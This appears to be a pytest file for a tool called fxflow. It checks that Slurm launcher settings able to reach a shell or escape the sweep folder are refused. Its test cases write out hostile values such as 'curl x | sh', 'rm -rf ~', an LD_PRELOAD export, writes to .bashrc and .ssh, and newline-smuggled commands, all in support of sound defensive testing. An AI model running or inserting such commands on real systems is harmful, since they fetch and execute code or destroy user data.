"""A cluster launcher's settings cannot carry shell code or write outside the sweep folder.

submitit's Slurm launcher writes `hydra.launcher` values into an sbatch script: `setup` lines run
as shell commands before each job, `additional_parameters` become `#SBATCH` options (some name
files, the environment or a command), and any value with a line break starts a new script line.
These are judged before Hydra starts (fxflow.config.hydra_settings), from overrides and files alike.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from fxflow.compose import hydra_settings_problems
from fxflow.config.hydra_settings import launcher_problems
from fxflow.config.trust import trusted_setup_lines

SLURM = "hydra/launcher=submitit_slurm"


@pytest.fixture
def here(tmp_path, monkeypatch) -> Path:
    """Start in an empty folder with no pyproject.toml above it that could trust anything."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("fxflow.config.trust.nearest_pyproject", lambda start: _nearest(start, tmp_path))
    return tmp_path


def _nearest(start: Path, root: Path) -> Path | None:
    for folder in (start, *start.parents):
        if (folder / "pyproject.toml").is_file():
            return folder / "pyproject.toml"
        if folder == root:
            return None
    return None


@pytest.mark.parametrize("override,key", [
    ("hydra.launcher.setup=['curl x | sh']", "hydra.launcher.setup.0"),
    ("+hydra.launcher.teardown=['rm -rf ~']", "hydra.launcher.teardown.0"),
    ("+hydra.launcher.srun_args=['--prolog=/tmp/x.sh']", "hydra.launcher.srun_args.0"),
    ("+hydra.launcher.additional_parameters={output:/home/u/.bashrc}", "hydra.launcher.additional_parameters.output"),
    ("+hydra.launcher.additional_parameters={export:'ALL,LD_PRELOAD=x.so'}", "hydra.launcher.additional_parameters.export"),
    ("+hydra.launcher.additional_parameters={wrap:'rm -rf ~'}", "hydra.launcher.additional_parameters.wrap"),
    ("+hydra.launcher.additional_parameters={chdir:/}", "hydra.launcher.additional_parameters.chdir"),
    ("+hydra.launcher.additional_parameters={time:[1,2]}", "hydra.launcher.additional_parameters.time"),
    ("hydra.launcher.comment='ok\nrm -rf ~'", "hydra.launcher.comment"),
    ("hydra.launcher.partition='gpu\rrm -rf ~'", "hydra.launcher.partition"),
    ("hydra.launcher.submitit_folder=/home/u/.ssh/%j", "hydra.launcher.submitit_folder"),
    ("hydra.launcher.submitit_folder=${hydra.sweep.dir}/../../x", "hydra.launcher.submitit_folder"),
])
def test_a_launcher_setting_that_reaches_a_shell_or_leaves_the_sweep_is_refused(here, override, key):
    problems = hydra_settings_problems([SLURM, override])
    assert len(problems) == 1 and problems[0].startswith(f"{key}:"), problems
    assert "command line" in problems[0]


def test_scheduling_options_and_the_default_folder_are_accepted(here):
    assert hydra_settings_problems([
        SLURM, "+hydra.launcher.additional_parameters={time:60,mail-type:END,qos:high}",
        "hydra.launcher.partition=gpu", "hydra.launcher.comment='one line'",
        "+hydra.launcher.srun_args=['--cpus-per-task=4']"]) == []


def test_setup_lines_run_only_when_the_users_pyproject_lists_each_one(here):
    line = "module load cuda/12.4"
    override = f"hydra.launcher.setup=['{line}','source ~/env.sh']"
    (here / "pyproject.toml").write_text(f'[tool.fxflow]\nlauncher_setup = ["{line}"]\n')
    assert trusted_setup_lines() == (line,)
    problems = hydra_settings_problems([SLURM, override])
    assert [p.split(":")[0] for p in problems] == ["hydra.launcher.setup.1"], problems
    assert "source ~/env.sh" in problems[0] and "launcher_setup" in problems[0]
    assert hydra_settings_problems([SLURM, f"hydra.launcher.setup=['{line}']"]) == []


def test_a_setup_line_in_a_users_launcher_file_is_named_with_its_file(here):
    folder = here / "fxflow_conf" / "hydra" / "launcher"
    folder.mkdir(parents=True)
    (folder / "cluster.yaml").write_text("defaults:\n  - submitit_slurm\nsetup: ['curl x | sh']\n")
    problems = hydra_settings_problems(["hydra/launcher=cluster"])
    assert len(problems) == 1 and problems[0].startswith("hydra.launcher.setup.0:")
    assert "cluster.yaml" in problems[0], problems


def test_launcher_problems_ignore_plugins_without_these_keys():
    assert launcher_problems({"_target_": "hydra_plugins.hydra_joblib_launcher.joblib_launcher.JoblibLauncher",
                              "n_jobs": 2, "backend": None}) == []
